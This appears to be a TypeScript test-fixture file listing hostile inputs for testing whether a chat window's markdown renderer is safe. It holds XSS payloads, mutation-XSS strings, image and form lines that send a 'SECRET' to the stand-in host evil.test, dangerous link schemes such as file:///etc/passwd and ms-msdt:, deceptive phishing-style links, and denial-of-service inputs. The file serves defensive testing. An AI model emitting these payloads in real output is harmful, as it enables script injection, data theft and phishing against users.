/** One text of a model that attacks the window (`security.md` 5, renderer). */
export interface WindowCase {
  id: string
  title: string
  text: string
  /** Words of links that are clicked in every way. */
  click?: string
  /** By what it is seen that the text has come; by default the end of it. */
  waitsFor?: string
  /** What a person must be able to see of it. */
  shows?: string
}

const EVIL = 'https://evil.test'

const DANGEROUS = [
  'javascript:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  'vbscript:x',
  'file:///etc/passwd',
  'smb://evil.test/x',
  '//evil.test/x',
  'ms-msdt:/id',
  'satchel://x',
  'app://bundle/evil',
  'blob:x',
  'JaVaScRiPt:x',
  'java&#x09;script:window.pwned=1',
  '\\\\evil.test\\share',
  'about:blank',
  'view-source:https://evil.test',
]

export const WINDOW_CASES: readonly WindowCase[] = [
  { id: 'X1', title: 'a remote image', text: `![a](${EVIL}/?q=SECRET)`, shows: 'evil.test' },
  {
    id: 'X1',
    title: 'a remote image over http',
    text: `![a](http://evil.test/i.png "t")`,
    shows: 'evil.test',
  },
  { id: 'X2', title: 'an image by reference', text: `![a][r]\n\n[r]: ${EVIL}/ref.png` },
  {
    id: 'X2',
    title: 'an image with an address of the net without a scheme',
    text: '![a](//evil.test/i.png)',
  },
  { id: 'X3', title: 'an image tag', text: '<img src=x onerror="window.pwned=1">', shows: 'onerror' },
  {
    id: 'X3',
    title: 'an image tag with a set of addresses',
    text: `<img srcset="${EVIL}/a 1x, ${EVIL}/b 2x">`,
  },
  {
    id: 'X4',
    title: 'an svg with onload',
    text: '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>',
  },
  { id: 'X4', title: 'an svg as an image', text: '![a](data:image/svg+xml,<svg/onload=alert(1)>)' },
  {
    id: 'X5',
    title: 'a style that imports',
    text: `<style>@import "${EVIL}/x.css"; body { background: url(${EVIL}) }</style>`,
  },
  ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'stylesheet', 'modulepreload'].map((rel) => ({
    id: 'X6',
    title: `a link of the kind ${rel}`,
    text: `<link rel="${rel}" href="${EVIL}/x" as="script">`,
  })),
  { id: 'X7', title: 'a refresh', text: `<meta http-equiv="refresh" content="0;url=${EVIL}">` },
  { id: 'X8', title: 'a base address', text: `<base href="${EVIL}/">\n\n[relative](x/y)` },
  {
    id: 'X9',
    title: 'a form that sends itself',
    text: `<form action="${EVIL}"><input autofocus onfocus="this.form.submit()"><button>Go</button></form>`,
  },
  {
    id: 'X10',
    title: 'names that hide those of the window',
    text: '<a id=api><a id=satchel name=connect><form name=body>',
  },
  {
    id: 'X11',
    title: 'text that changes when it is parsed twice',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  },
  {
    id: 'X11',
    title: 'a formula with a link',
    text: '$\\href{javascript:window.pwned=1}{x}$ $$\\includegraphics{https://evil.test/x}$$',
  },
  {
    id: 'X11',
    title: 'the language of a block of code',
    text: '```"><img src=x onerror=window.pwned=1>\ncode\n```',
  },
  { id: 'X11', title: 'a title of a link', text: `[x](${EVIL} '"><img src=x onerror=window.pwned=1>')` },
  {
    id: 'X11',
    title: 'an automatic link',
    text: '<javascript:window.pwned=1> <https://evil.test/"onmouseover="window.pwned=1>',
  },
  ...DANGEROUS.map((address) => ({
    id: 'X12',
    title: `a link to ${address}`,
    text: `[click me](${address}) and <a href="${address}" target="_blank">click me</a>`,
    click: 'click me',
  })),
  {
    id: 'X15',
    title: 'a link whose text names another host',
    text: `[https://bank.test](${EVIL}/login)`,
  },
  {
    id: 'X15',
    title: 'a link with a name before the host',
    text: '[mail](https://bank.test@evil.test/)',
    shows: 'evil.test',
  },
  {
    id: 'X20',
    title: 'lists and quotes 500 levels deep',
    // The view shows 50 levels and leaves out the rest.
    waitsFor: 'xxxxx',
    text: `${Array.from({ length: 500 }, (_, n) => `${' '.repeat(n * 2)}- x`).join('\n')}\n\n${'> '.repeat(500)}deep`,
  },
  { id: 'X20', title: 'marks that never close', text: '**_`['.repeat(5000) },
  {
    id: 'X20',
    title: 'a block of code with 20,000 lines',
    text: `\`\`\`js\n${'x = "a" + /b/ // c\n'.repeat(20_000)}\`\`\``,
  },
]
